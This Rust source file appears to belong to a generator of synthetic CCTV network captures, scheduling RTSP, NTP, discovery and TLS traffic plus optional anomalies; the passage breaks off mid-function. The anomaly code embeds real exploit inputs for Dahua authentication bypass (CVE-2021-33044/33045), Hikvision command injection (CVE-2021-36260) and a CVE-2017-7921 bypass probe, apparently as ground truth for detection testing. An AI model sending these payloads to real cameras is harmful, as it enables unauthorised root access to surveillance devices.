//! The traffic schedule: what every host says to whom, and when.
//!
//! Each activity draws from its own seeded RNG stream ([`sub_rng`]), so the seed changes
//! ports, sizes, jitter and event times while the set of hosts and conversations stays fixed,
//! and enabling an anomaly leaves the baseline traffic's randomness untouched.

use std::collections::VecDeque;

use rand::RngExt;
use rand_chacha::ChaCha8Rng;

use super::mgmt;
use super::net::{
    sub_rng, Camera, HostId, Site, Vendor, DAHUA_CLOUD_IP, GATEWAY_IP, HIK_CLOUD_IP, VMS_IP,
    VULNERABLE_HIK_FIRMWARE,
};
use super::payloads::{self as p, jitter, Answer, RtpStream};
use super::tcp::{Conn, Dial, Rtt, SEG_PAYLOAD};
use super::wire::{Peer, Plan, ARP_LEAD, UDP};
use super::{Scenario, TruthEvent, TruthFirmware, TruthFirmwareUpload};

const MS: u64 = 1_000;
const SEC: u64 = 1_000_000;

/// Video frame rate of the modelled streams (kept low so the default capture stays small).
pub(crate) const FRAMES_PER_SEC: u64 = 10;
/// An IDR picture every two seconds.
const GOP_FRAMES: u64 = 2 * FRAMES_PER_SEC;
/// RTSP session keep-alive (GET_PARAMETER) period.
const KEEPALIVE: u64 = 30 * SEC;
/// NTP poll interval.
const NTP_POLL: u64 = 64 * SEC;
/// Discovery announcement period.
const DISCOVERY_PERIOD: u64 = 30 * SEC;

const NTP_NAME: &str = "ntp.site.internal";
const VMS_NAME: &str = "vms.site.internal";
const EGRESS_SNI: &str = "update.example.net";
const HIK_CLOUD_NAME: &str = "litedev.hik-connect.com";
const HIK_CLOUD_LB: &str = "hik-connect-lb.example.com";
const DAHUA_CLOUD_NAME: &str = "www.easy4ipcloud.com";
const UPLOAD_SNI: &str = "storage.example.org";
const HTTP_CLIENT: &str = "python-requests/2.31.0";
/// WS-Discovery multicast group and port.
const WSD_GROUP: [u8; 4] = [239, 255, 255, 250];
const WSD_PORT: u16 = 3702;
/// Firmware a Hikvision camera runs after the `firmware` anomaly's upgrade (SADP form; as long
/// as the original version, so the SADP flow's byte counts do not change).
const HIK_UPGRADE_FIRMWARE: &str = "V5.7.9build 230217";
/// Older firmware a Dahua camera reports after the `downgrade` anomaly (as long as the usual
/// `2.800.0000000.29.R`, so the DHIP flow's byte counts do not change).
const DAHUA_DOWNGRADE_FIRMWARE: &str = "2.622.0000000.31.R";
/// Authentication bypass logins of the `dahua_exploit` anomaly: (JSON-RPC id, CVE, body).
const DAHUA_LOGINS: [(u32, &str, &str); 2] = [
    (
        1,
        "CVE-2021-33044",
        concat!(
            r#"{"method":"global.login","params":{"userName":"admin","password":"","#,
            r#""clientType":"NetKeyboard","loginType":"Direct"},"id":1,"session":0}"#
        ),
    ),
    (
        2,
        "CVE-2021-33045",
        concat!(
            r#"{"method":"global.login","params":{"userName":"admin","password":"","#,
            r#""clientType":"Local","loginType":"Loopback","ipAddr":"127.0.0.1"},"id":2,"session":0}"#
        ),
    ),
];
/// File the `tftp_firmware` anomaly's camera fetches.
const TFTP_FILE: &str = "digicap.dav";

/// Every SNI the generator can put in a ClientHello (for tests).
#[cfg(test)]
pub(crate) const ALL_SNIS: [&str; 4] = [VMS_NAME, EGRESS_SNI, HIK_CLOUD_NAME, UPLOAD_SNI];
/// Every DNS name the generator can query (for tests).
#[cfg(test)]
pub(crate) const ALL_DNS_NAMES: [&str; 4] = [NTP_NAME, VMS_NAME, HIK_CLOUD_NAME, DAHUA_CLOUD_NAME];

/// Scenario-wide values every activity needs.
struct Ctx<'a> {
    seed: u64,
    start_micros: u64,
    /// Capture span in microseconds.
    dur: u64,
    site: &'a Site,
}

impl Ctx<'_> {
    fn rng(&self, domain: &str, index: usize) -> ChaCha8Rng {
        sub_rng(self.seed, domain, index as u64)
    }

    /// Device wall clock (Unix microseconds) at plan time `t`.
    fn unix(&self, t: u64) -> u64 {
        self.start_micros + t
    }

    fn date(&self, t: u64) -> anyhow::Result<String> {
        p::http_date(self.unix(t) / SEC)
    }

    /// `2026-01-01T00:00:01Z` at plan time `t`.
    fn iso_time(&self, t: u64) -> anyhow::Result<String> {
        mgmt::iso_time(self.unix(t) / SEC)
    }

    /// A random time within fractions `lo..hi` of the capture.
    fn window(&self, rng: &mut ChaCha8Rng, lo: u64, hi: u64) -> u64 {
        jitter(rng, self.dur * lo / 100, self.dur * hi / 100)
    }
}

/// Round trip between two hosts of the segment.
fn lan_rtt(rng: &mut ChaCha8Rng) -> Rtt {
    Rtt { server: jitter(rng, 120, 450), client: jitter(rng, 30, 90) }
}

/// A local client talking to an internet server (answers come back after a WAN round trip).
fn wan_rtt(rng: &mut ChaCha8Rng) -> Rtt {
    Rtt { server: jitter(rng, 18 * MS, 60 * MS), client: jitter(rng, 40, 120) }
}

/// Plans all traffic of the scenario.
pub(crate) fn build(s: &Scenario, site: &Site) -> anyhow::Result<Plan> {
    let ctx = Ctx {
        seed: s.seed,
        start_micros: s.start_unix.saturating_mul(SEC),
        dur: s.duration_secs.max(10) * SEC,
        site,
    };
    let a = s.anomalies;
    let mut plan = Plan::default();
    for (i, cam) in site.cameras.iter().enumerate() {
        rtsp_session(&mut plan, &ctx, i, cam)?;
    }
    // Planned ahead of the discovery announcements, which report the new version afterwards.
    // (It only takes ports of the workstation, which has no baseline traffic.)
    let upgrade = if a.firmware { firmware(&mut plan, &ctx, s.firmware_bytes)? } else { None };
    // Only picks a time from the discovery schedule (own random stream, no traffic).
    let downgrade = if a.downgrade { downgrade_time(&ctx) } else { None };
    let change_of = |i: usize| {
        upgrade.as_ref().filter(|u| u.camera == i).or(downgrade.as_ref().filter(|d| d.camera == i))
    };
    let mut announced_change = vec![false; site.cameras.len()];
    for (i, cam) in site.cameras.iter().enumerate() {
        time_sync(&mut plan, &ctx, i, cam)?;
        announced_change[i] = discovery(&mut plan, &ctx, i, cam, change_of(i))?;
    }
    vms_session(&mut plan, &ctx)?;
    ws_discovery(&mut plan, &ctx)?;
    for (i, cam) in site.cameras.iter().enumerate() {
        match cam.vendor {
            Vendor::Hikvision => isapi_device_info(&mut plan, &ctx, i, cam)?,
            Vendor::Dahua | Vendor::Axis => onvif_device_information(&mut plan, &ctx, i, cam)?,
        }
    }
    for (i, cam) in site.cameras.iter().enumerate() {
        let mut versions = vec![cam.firmware.to_string()];
        if let Some(u) = change_of(i).filter(|_| announced_change[i]) {
            versions.push(u.version.to_string());
        }
        plan.firmware.push(TruthFirmware {
            device: cam.ip,
            vendor: cam.vendor.name().to_string(),
            model: cam.model.to_string(),
            serial: cam.serial.clone(),
            versions,
        });
    }

    if a.egress {
        egress(&mut plan, &ctx)?;
    }
    if a.cloud {
        hik_cloud(&mut plan, &ctx)?;
        dahua_cloud(&mut plan, &ctx)?;
    }
    if a.exploit {
        exploit(&mut plan, &ctx)?;
    }
    if a.upload {
        upload(&mut plan, &ctx, s.upload_bytes)?;
    }

    // The anomalies below are planned after all other traffic, so the ephemeral ports they
    // take never shift another conversation's.
    if a.dahua_exploit {
        dahua_exploit(&mut plan, &ctx)?;
    }
    if a.telnet {
        telnet(&mut plan, &ctx)?;
    }
    if a.lateral {
        lateral(&mut plan, &ctx)?;
    }
    // Recorded only if an announcement carried the older version.
    if let Some(d) = downgrade.as_ref().filter(|d| announced_change[d.camera]) {
        plan.anomaly_events.push(TruthEvent {
            kind: "downgrade".into(),
            device: site.cameras[d.camera].ip,
            peer: None,
            detail: d.version.into(),
        });
    }
    if a.cloud_enabled {
        ezviz(&mut plan, &ctx)?;
    }
    if a.vulnerable_firmware {
        if let Some(cam) = site.cameras.iter().find(|c| c.firmware == VULNERABLE_HIK_FIRMWARE) {
            plan.anomaly_events.push(TruthEvent {
                kind: "vulnerable_firmware".into(),
                device: cam.ip,
                peer: None,
                detail: cam.firmware.into(),
            });
        }
    }
    if a.tftp_firmware {
        tftp_firmware(&mut plan, &ctx, s.tftp_bytes)?;
    }
    Ok(plan)
}

// ---------------------------------------------------------------------------------------------
// Baseline

/// One request/response of the RTSP session set-up.
struct RtspStep {
    method: &'static str,
    target: String,
    request: Vec<(&'static str, String)>,
    response: Vec<(&'static str, String)>,
    body: String,
}

/// NVR ↔ camera RTSP session: OPTIONS, DESCRIBE, SETUP, PLAY, interleaved RTP until shortly
/// before the end of the capture, periodic GET_PARAMETER keep-alives, TEARDOWN and FIN.
fn rtsp_session(plan: &mut Plan, ctx: &Ctx, i: usize, cam: &Camera) -> anyhow::Result<()> {
    let mut rng = ctx.rng("rtsp", i);
    let rng = &mut rng;
    // The NVR (re)starts recording at the beginning of the capture: the first camera's session
    // opens the capture, the others follow within a few seconds.
    let t0 = if i == 0 { ARP_LEAD } else { jitter(rng, 20 * MS, (3 * SEC).min(ctx.dur / 10)) };
    let dial = Dial { client: ctx.site.nvr, server: cam.host, port: 554, kind: None };
    let rtt = lan_rtt(rng);
    let (mut c, mut t) = Conn::connect(plan, rng, dial, t0, rtt)?;

    let url = cam.rtsp_url();
    let track = p::rtsp_track_url(cam);
    let session = rng.random_range(100_000_000u32..=999_999_999);
    let mut rtp = RtpStream { seq: rng.random(), timestamp: rng.random(), ssrc: rng.random() };
    let sdp = p::sdp(cam, rng.random());
    let session_hdr = ("Session", session.to_string());
    let steps = [
        RtspStep {
            method: "OPTIONS",
            target: url.clone(),
            request: vec![],
            response: vec![(
                "Public",
                "OPTIONS, DESCRIBE, SETUP, TEARDOWN, PLAY, PAUSE, GET_PARAMETER, SET_PARAMETER".into(),
            )],
            body: String::new(),
        },
        RtspStep {
            method: "DESCRIBE",
            target: url.clone(),
            request: vec![("Accept", "application/sdp".into())],
            response: vec![("Content-Base", format!("{url}/")), ("Content-Type", "application/sdp".into())],
            body: sdp,
        },
        RtspStep {
            method: "SETUP",
            target: track.clone(),
            request: vec![("Transport", "RTP/AVP/TCP;unicast;interleaved=0-1".into())],
            response: vec![
                ("Session", format!("{session};timeout=60")),
                (
                    "Transport",
                    format!("RTP/AVP/TCP;unicast;interleaved=0-1;ssrc={:08X};mode=\"play\"", rtp.ssrc),
                ),
            ],
            body: String::new(),
        },
        RtspStep {
            method: "PLAY",
            target: url.clone(),
            request: vec![session_hdr.clone(), ("Range", "npt=0.000-".into())],
            response: vec![
                session_hdr.clone(),
                ("Range", "npt=0.000-".into()),
                ("RTP-Info", format!("url={track};seq={};rtptime={}", rtp.seq, rtp.timestamp)),
            ],
            body: String::new(),
        },
    ];
    let mut cseq = 0;
    for step in steps {
        cseq += 1;
        t += jitter(rng, 200, 2 * MS);
        c.segment(plan, true, t, p::rtsp_request(step.method, &step.target, cseq, &step.request));
        t += jitter(rng, MS, 6 * MS);
        let resp = p::rtsp_response(cam.vendor, cseq, &ctx.date(t)?, &step.response, &step.body);
        t = c.send(plan, false, t, 80, &resp);
    }

    // Streaming.
    let stop = ctx.dur - SEC + jitter(rng, 0, 300 * MS);
    let first_frame = t + jitter(rng, 5 * MS, 40 * MS);
    let frame_gap = SEC / FRAMES_PER_SEC;
    let mut next_keepalive = t + KEEPALIVE;
    let mut pending_ack: Option<u64> = None;
    let mut unacked = 0u32;
    let mut ack_every = rng.random_range(2..=3);
    let mut last = t;
    for frame in 0.. {
        let tf = first_frame + frame * frame_gap + jitter(rng, 0, 2 * MS);
        if tf >= stop {
            break;
        }
        if tf >= next_keepalive {
            // NVR keep-alive between two frames; its request acknowledges everything so far.
            let tk = last + jitter(rng, 5 * MS, 20 * MS);
            if let Some(pa) = pending_ack.take().filter(|&pa| pa <= tk) {
                c.pure_ack(plan, true, pa);
            }
            cseq += 1;
            let req = p::rtsp_request(
                "GET_PARAMETER",
                &format!("{url}/"),
                cseq,
                std::slice::from_ref(&session_hdr),
            );
            c.segment(plan, true, tk, req);
            unacked = 0;
            let tr = tk + jitter(rng, MS, 4 * MS);
            let resp =
                p::rtsp_response(cam.vendor, cseq, &ctx.date(tr)?, std::slice::from_ref(&session_hdr), "");
            c.segment(plan, false, tr, resp);
            unacked += 1;
            pending_ack = Some(tr + jitter(rng, 20 * MS, 40 * MS));
            last = tr;
            next_keepalive += KEEPALIVE;
        }
        let idr = frame % GOP_FRAMES == 0;
        let size = if idr {
            rng.random_range(2 * (p::RTP_MAX_PAYLOAD - 2) + 1..=3 * (p::RTP_MAX_PAYLOAD - 2))
        } else if rng.random_bool(0.6) {
            rng.random_range(150..=p::RTP_MAX_PAYLOAD)
        } else {
            rng.random_range(p::RTP_MAX_PAYLOAD + 1..=2 * (p::RTP_MAX_PAYLOAD - 2))
        };
        let nals = p::h264_picture(rng, idr, size);
        let count = nals.len();
        let mut ts = tf.max(last + 1);
        for (k, nal) in nals.iter().enumerate() {
            if let Some(pa) = pending_ack.filter(|&pa| pa <= ts) {
                c.pure_ack(plan, true, pa);
                pending_ack = None;
                unacked = 0;
            }
            c.segment(plan, false, ts, rtp.interleaved(k + 1 == count, nal));
            last = ts;
            unacked += 1;
            if unacked >= ack_every && pending_ack.is_none() {
                pending_ack = Some(ts + jitter(rng, 60, 200));
                ack_every = rng.random_range(2..=3);
            }
            ts += jitter(rng, 60, 140);
        }
        if unacked > 0 && pending_ack.is_none() {
            // Delayed-ACK timer.
            pending_ack = Some(last + jitter(rng, 20 * MS, 40 * MS));
        }
        rtp.timestamp = rtp.timestamp.wrapping_add((90_000 / FRAMES_PER_SEC) as u32);
    }

    // Teardown.
    let td = stop.max(last + MS);
    if let Some(pa) = pending_ack.filter(|&pa| pa < td) {
        c.pure_ack(plan, true, pa);
    }
    cseq += 1;
    c.segment(
        plan,
        true,
        td,
        p::rtsp_request("TEARDOWN", &format!("{url}/"), cseq, std::slice::from_ref(&session_hdr)),
    );
    let tr = td + jitter(rng, MS, 4 * MS);
    let resp = p::rtsp_response(cam.vendor, cseq, &ctx.date(tr)?, &[session_hdr], "");
    c.segment(plan, false, tr, resp);
    let tf = tr + jitter(rng, 200, MS);
    c.close(plan, true, tf, rtt.server, rtt.client);
    Ok(())
}

/// A name the gateway's resolver answers, with its answer section.
struct Lookup<'a> {
    name: &'a str,
    answers: &'a [Answer],
    ttl: u32,
}

/// DNS lookup by `client` at the gateway (own source port); returns the time of the response.
fn dns_lookup(
    plan: &mut Plan,
    rng: &mut ChaCha8Rng,
    ctx: &Ctx,
    client: HostId,
    t: u64,
    q: Lookup,
) -> anyhow::Result<u64> {
    let flow = plan.udp_flow(rng, client, Peer::Host(ctx.site.gateway), 53, None)?;
    let id: u16 = rng.random();
    plan.udp(t, flow, true, p::dns_query(id, q.name)?);
    let tr = t + jitter(rng, 250, 1500);
    plan.udp(tr, flow, false, p::dns_response(id, q.name, q.answers, q.ttl)?);
    Ok(tr)
}

/// Every 64 s: resolve the NTP server, then one NTPv4 client/server exchange.
fn time_sync(plan: &mut Plan, ctx: &Ctx, i: usize, cam: &Camera) -> anyhow::Result<()> {
    let mut rng = ctx.rng("ntp", i);
    let rng = &mut rng;
    let gateway = ctx.site.gateway;
    let mut t = jitter(rng, SEC, (10 * SEC).min(ctx.dur / 2));
    while t + SEC < ctx.dur {
        let q = Lookup { name: NTP_NAME, answers: &[Answer::A(NTP_NAME, GATEWAY_IP)], ttl: 3600 };
        let tr = dns_lookup(plan, rng, ctx, cam.host, t, q)?;
        let tq = tr + jitter(rng, 300, 2 * MS);
        let flow = plan.udp_flow(rng, cam.host, Peer::Host(gateway), 123, None)?;
        let req = p::ntp_request(ctx.unix(tq));
        let ta = tq + jitter(rng, 150, 900);
        let resp = p::ntp_response(&req, ctx.unix(tq + 40), ctx.unix(ta - 20));
        plan.udp(tq, flow, true, req);
        plan.udp(ta, flow, false, resp);
        t += NTP_POLL + jitter(rng, 0, 2 * MS);
    }
    Ok(())
}

/// Times of camera `i`'s discovery announcements: every 30 s from a random start.
fn discovery_times(ctx: &Ctx, i: usize) -> Vec<u64> {
    let mut rng = ctx.rng("discovery", i);
    let mut t = jitter(&mut rng, 50 * MS, DISCOVERY_PERIOD.min(ctx.dur / 2));
    let mut out = Vec::new();
    while t < ctx.dur {
        out.push(t);
        t += DISCOVERY_PERIOD + jitter(&mut rng, 0, 5 * MS);
    }
    out
}

/// A firmware change of one camera (upgrade or downgrade): after `at` it reports `version`.
struct Upgrade {
    camera: usize,
    at: u64,
    version: &'static str,
}

/// Vendor discovery multicast every 30 s: SADP for Hikvision, DHIP for Dahua. Announcements
/// after a firmware change (`upgrade`) carry the new version; returns whether any did.
fn discovery(
    plan: &mut Plan,
    ctx: &Ctx,
    i: usize,
    cam: &Camera,
    upgrade: Option<&Upgrade>,
) -> anyhow::Result<bool> {
    let (group, port) = match cam.vendor {
        Vendor::Hikvision => ([239, 255, 255, 250], 37_020),
        Vendor::Dahua => ([239, 255, 255, 251], 37_810),
        Vendor::Axis => return Ok(false),
    };
    let flow = plan.flow(UDP, cam.host, port, Peer::Group(group.into()), port, None)?;
    let mut request = 0u32;
    let mut announced = false;
    for t in discovery_times(ctx, i) {
        request += 1;
        let firmware = match upgrade {
            Some(u) if t > u.at => {
                announced = true;
                u.version
            }
            _ => cam.firmware,
        };
        let payload = match cam.vendor {
            Vendor::Dahua => p::dhip_notify(cam, firmware, 0, request),
            _ => p::sadp_hello(cam, firmware),
        };
        plan.udp(t, flow, true, payload);
    }
    Ok(announced)
}

/// Start of the NVR's device-information polls: within the first seconds of the capture.
fn poll_time(ctx: &Ctx, rng: &mut ChaCha8Rng) -> u64 {
    jitter(rng, 500 * MS, (5 * SEC).min(ctx.dur / 4))
}

/// The NVR's WS-Discovery `Probe` to the multicast group at the start of the capture, and every
/// camera's unicast `ProbeMatches` back to the probe's source port.
fn ws_discovery(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let mut rng = ctx.rng("ws-discovery", 0);
    let rng = &mut rng;
    let site = ctx.site;
    let t = jitter(rng, 100 * MS, 300 * MS);
    let probe = plan.udp_flow(rng, site.nvr, Peer::Group(WSD_GROUP.into()), WSD_PORT, None)?;
    let nvr_port = plan.flows[probe].client_port;
    let id = mgmt::wsd_message_id(rng);
    plan.udp(t, probe, true, mgmt::wsd_probe(&id));
    for cam in &site.cameras {
        // Each device answers after a random delay below APP_MAX_DELAY (500 ms).
        let tr = t + jitter(rng, 5 * MS, 450 * MS);
        let flow = plan.flow(UDP, cam.host, WSD_PORT, Peer::Host(site.nvr), nvr_port, None)?;
        plan.udp(tr, flow, true, mgmt::wsd_probe_matches(rng, cam, &id));
    }
    Ok(())
}

/// The NVR reads a Hikvision camera's `/ISAPI/System/deviceInfo` once (digest authentication).
fn isapi_device_info(plan: &mut Plan, ctx: &Ctx, i: usize, cam: &Camera) -> anyhow::Result<()> {
    let mut rng = ctx.rng("isapi", i);
    let rng = &mut rng;
    let t = poll_time(ctx, rng);
    let dial = Dial { client: ctx.site.nvr, server: cam.host, port: 80, kind: None };
    let rtt = lan_rtt(rng);
    let mut auth = mgmt::Digest::new(rng, cam);
    let request = mgmt::isapi_device_info_request(cam, &mut auth);
    let body = mgmt::isapi_device_info(cam, cam.firmware);
    http_exchange(plan, rng, dial, rtt, t, &request, |t| Ok(mgmt::isapi_response(&ctx.date(t)?, &body)))?;
    Ok(())
}

/// The NVR asks a Dahua or Axis camera for ONVIF `GetDeviceInformation` once.
fn onvif_device_information(plan: &mut Plan, ctx: &Ctx, i: usize, cam: &Camera) -> anyhow::Result<()> {
    let mut rng = ctx.rng("onvif", i);
    let rng = &mut rng;
    let t = poll_time(ctx, rng);
    let dial = Dial { client: ctx.site.nvr, server: cam.host, port: 80, kind: None };
    let rtt = lan_rtt(rng);
    let request = mgmt::onvif_get_device_information(rng, cam, &ctx.iso_time(t)?);
    http_exchange(plan, rng, dial, rtt, t, &request, |t| {
        Ok(mgmt::onvif_device_information_response(cam, &ctx.date(t)?))
    })?;
    Ok(())
}

/// TLS 1.3 handshake on an open connection: ClientHello, the server's first flight, the
/// client's ChangeCipherSpec and Finished. Returns the time of the client's last segment.
fn tls_handshake(plan: &mut Plan, rng: &mut ChaCha8Rng, c: &mut Conn, t: u64, rtt: Rtt, sni: &str) -> u64 {
    let mut t = t + jitter(rng, 100, 600);
    c.segment(plan, true, t, p::tls_client_hello(rng, sni));
    t += rtt.server;
    let encrypted = rng.random_range(900..2600);
    let flight = p::tls_server_flight(rng, encrypted);
    t = c.send(plan, false, t, jitter(rng, 20, 120), &flight);
    t += rtt.client + jitter(rng, 200, 2 * MS);
    let mut finished = p::tls_change_cipher_spec().to_vec();
    finished.extend(p::tls_app_data(rng, 53));
    c.segment(plan, true, t, finished);
    t
}

/// A TLS 1.3 conversation on an open connection: the handshake, then `exchanges`
/// request/response pairs (ciphertext sizes), then the client closes. Returns the time of the
/// last packet.
fn tls_conversation(
    plan: &mut Plan,
    rng: &mut ChaCha8Rng,
    c: &mut Conn,
    t: u64,
    rtt: Rtt,
    sni: &str,
    exchanges: &[(usize, usize)],
) -> u64 {
    let mut t = tls_handshake(plan, rng, c, t, rtt, sni);
    for &(req, resp) in exchanges {
        t += jitter(rng, 100, 2 * MS);
        t = c.send(plan, true, t, 40, &p::tls_app_data(rng, req));
        t += rtt.server;
        t = c.send(plan, false, t, 40, &p::tls_app_data(rng, resp));
    }
    t += rtt.client + jitter(rng, MS, 20 * MS);
    c.close(plan, true, t, rtt.server, rtt.client)
}

/// The NVR resolves the site VMS and reports to it over TLS.
fn vms_session(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let mut rng = ctx.rng("vms", 0);
    let rng = &mut rng;
    let site = ctx.site;
    // Without cameras this is the first conversation of the capture.
    let t = if site.cameras.is_empty() { ARP_LEAD } else { ctx.window(rng, 5, 15) };
    let q = Lookup { name: VMS_NAME, answers: &[Answer::A(VMS_NAME, VMS_IP)], ttl: 300 };
    let tr = dns_lookup(plan, rng, ctx, site.nvr, t, q)?;
    let dial = Dial { client: site.nvr, server: site.vms, port: 443, kind: None };
    let rtt = lan_rtt(rng);
    let t = tr + jitter(rng, 200, MS);
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
    let exchanges: Vec<(usize, usize)> =
        (0..3).map(|_| (rng.random_range(200..700), rng.random_range(100..1800))).collect();
    tls_conversation(plan, rng, &mut c, t, rtt, VMS_NAME, &exchanges);
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Anomalies

fn first_of<'a>(site: &'a Site, vendors: &[Vendor]) -> Option<&'a Camera> {
    vendors.iter().find_map(|&v| site.cameras_of(v).next()).or_else(|| site.cameras.first())
}

/// An Axis (or Dahua) camera talks TLS to a hard-coded internet address, without DNS.
fn egress(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = first_of(ctx.site, &[Vendor::Axis, Vendor::Dahua]) else {
        return Ok(());
    };
    let mut rng = ctx.rng("egress", 0);
    let rng = &mut rng;
    let dial = Dial { client: cam.host, server: ctx.site.egress_server, port: 443, kind: Some("egress") };
    let rtt = wan_rtt(rng);
    let t = ctx.window(rng, 20, 70);
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
    let exchange = [(rng.random_range(150..400), rng.random_range(80..300))];
    tls_conversation(plan, rng, &mut c, t, rtt, EGRESS_SNI, &exchange);
    Ok(())
}

/// A Hikvision camera resolves and contacts the Hik-Connect cloud over TLS on port 8666.
fn hik_cloud(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras_of(Vendor::Hikvision).next() else {
        return Ok(());
    };
    let mut rng = ctx.rng("hik-cloud", 0);
    let rng = &mut rng;
    let t = ctx.window(rng, 20, 60);
    let q = Lookup {
        name: HIK_CLOUD_NAME,
        answers: &[Answer::Cname(HIK_CLOUD_NAME, HIK_CLOUD_LB), Answer::A(HIK_CLOUD_LB, HIK_CLOUD_IP)],
        ttl: 60,
    };
    let tr = dns_lookup(plan, rng, ctx, cam.host, t, q)?;
    let dial = Dial { client: cam.host, server: ctx.site.hik_cloud, port: 8666, kind: Some("cloud") };
    let rtt = wan_rtt(rng);
    let t = tr + jitter(rng, 500, 3 * MS);
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
    let exchanges: Vec<(usize, usize)> =
        (0..3).map(|_| (rng.random_range(90..400), rng.random_range(60..300))).collect();
    tls_conversation(plan, rng, &mut c, t, rtt, HIK_CLOUD_NAME, &exchanges);
    Ok(())
}

/// A Dahua camera resolves the Easy4ip P2P service and registers with it over UDP 8800,
/// followed by P2P keep-alives (`FF FE FF E7`) in both directions.
fn dahua_cloud(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras_of(Vendor::Dahua).next() else {
        return Ok(());
    };
    let mut rng = ctx.rng("dahua-cloud", 0);
    let rng = &mut rng;
    let t = ctx.window(rng, 25, 65);
    let q =
        Lookup { name: DAHUA_CLOUD_NAME, answers: &[Answer::A(DAHUA_CLOUD_NAME, DAHUA_CLOUD_IP)], ttl: 300 };
    let tr = dns_lookup(plan, rng, ctx, cam.host, t, q)?;
    let flow = plan.udp_flow(rng, cam.host, Peer::Host(ctx.site.dahua_cloud), 8800, Some("cloud"))?;
    let rtt = wan_rtt(rng).server;
    let mut t = tr + jitter(rng, 500, 3 * MS);
    let register = format!(
        "POST /online/p2psrv/register HTTP/1.1\r\nCSeq: 1\r\nX-Serial: {}\r\nX-Version: {}\r\n\
         Content-Length: 0\r\n\r\n",
        cam.serial, cam.firmware
    );
    plan.udp(t, flow, true, register.into_bytes());
    t += rtt;
    let reply = format!(
        "HTTP/1.1 200 OK\r\nCSeq: 1\r\nX-Session: {:08x}\r\nContent-Length: 0\r\n\r\n",
        rng.random::<u32>()
    );
    plan.udp(t, flow, false, reply.into_bytes());
    for _ in 0..3 {
        t += jitter(rng, 500 * MS, 2 * SEC);
        plan.udp(t, flow, true, p::dahua_p2p(rng));
        t += rtt;
        plan.udp(t, flow, false, p::dahua_p2p(rng));
    }
    Ok(())
}

fn http_request(method: &str, path: &str, host: &str, agent: &str, body: Option<(&str, &str)>) -> Vec<u8> {
    let mut s = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\nAccept-Encoding: gzip, deflate\r\n\
         Accept: */*\r\nConnection: close\r\n"
    );
    match body {
        Some((content_type, body)) => {
            s.push_str(&format!(
                "Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            ));
        }
        None => s.push_str("\r\n"),
    }
    s.into_bytes()
}

fn http_response(status: &str, server: &str, date: &str, content_type: &str, body: &str) -> Vec<u8> {
    format!(
        "HTTP/1.1 {status}\r\nDate: {date}\r\nServer: {server}\r\nConnection: close\r\n\
         Content-Type: {content_type}\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// One HTTP request/response on a fresh connection, closed by the client.
fn http_exchange(
    plan: &mut Plan,
    rng: &mut ChaCha8Rng,
    dial: Dial,
    rtt: Rtt,
    t: u64,
    request: &[u8],
    response: impl FnOnce(u64) -> anyhow::Result<Vec<u8>>,
) -> anyhow::Result<u64> {
    let (mut c, t) = Conn::connect(plan, rng, dial, t, rtt)?;
    let t = t + jitter(rng, 100, MS);
    c.send(plan, true, t, 40, request);
    let t = t + rtt.server + jitter(rng, 2 * MS, 15 * MS);
    let t = c.send(plan, false, t, 40, &response(t)?);
    let t = t + rtt.client + jitter(rng, 100, MS);
    Ok(c.close(plan, true, t, rtt.server, rtt.client))
}

/// CVE-2021-36260 command injection from the workstation and a CVE-2017-7921 probe from the
/// internet against a Hikvision camera.
fn exploit(plan: &mut Plan, ctx: &Ctx) -> anyhow::Result<()> {
    let Some(cam) = ctx.site.cameras_of(Vendor::Hikvision).next_back() else {
        return Ok(());
    };
    let mut rng = ctx.rng("exploit", 0);
    let rng = &mut rng;
    let host = cam.ip.to_string();
    let dial = Dial { client: ctx.site.workstation, server: cam.host, port: 80, kind: Some("exploit") };

    let body = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>";
    let put = http_request(
        "PUT",
        "/SDK/webLanguage",
        &host,
        HTTP_CLIENT,
        Some(("application/x-www-form-urlencoded", body)),
    );
    let t = ctx.window(rng, 30, 60);
    let rtt = lan_rtt(rng);
    let t = http_exchange(plan, rng, dial, rtt, t, &put, |t| {
        Ok(http_response("500 Internal Server Error", "App-webs/", &ctx.date(t)?, "text/html", ""))
    })?;

    let get = http_request("GET", "/x", &host, HTTP_CLIENT, None);
    let t = t + jitter(rng, 500 * MS, 3 * SEC);
    let rtt = lan_rtt(rng);
    http_exchange(plan, rng, dial, rtt, t, &get, |t| {
        Ok(http_response("200 OK", "App-webs/", &ctx.date(t)?, "text/plain", "uid=0(root) gid=0(root)\n"))
    })?;

    // Internet scanner: authentication bypass with the magic `auth` parameter.
    let dial = Dial { client: ctx.site.attacker, server: cam.host, port: 80, kind: Some("exploit") };
    let rtt = Rtt { server: jitter(rng, 120, 450), client: jitter(rng, 20 * MS, 80 * MS) };
    let probe =
        http_request("GET", "/System/deviceInfo?auth=YWRtaW46MTEK", &host, "Mozilla/5.0 zgrab/0.x", None);
    let mac = cam.mac.iter().map(|b| format!("{b:02x}")).collect::<Vec<_>>().join(":");
    let info = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<DeviceInfo version=\"1.0\" \
         xmlns=\"http://www.hikvision.com/ver10/XMLSchema\">\n<deviceName>IP CAMERA</deviceName>\n\
         <deviceID>{uuid}</deviceID>\n<model>{model}</model>\n<serialNumber>{sn}</serialNumber>\n\
         <macAddress>{mac}</macAddress>\n<firmwareVersion>{fw}</firmwareVersion>\n\
         <deviceType>IPCamera</deviceType>\n</DeviceInfo>\n",
        uuid = cam.uuid,
        model = cam.model,
        sn = cam.serial,
        fw = cam.firmware,
    );
    let t = ctx.window(rng, 20, 80);
    http_exchange(plan, rng, dial, rtt, t, &probe, |t| {
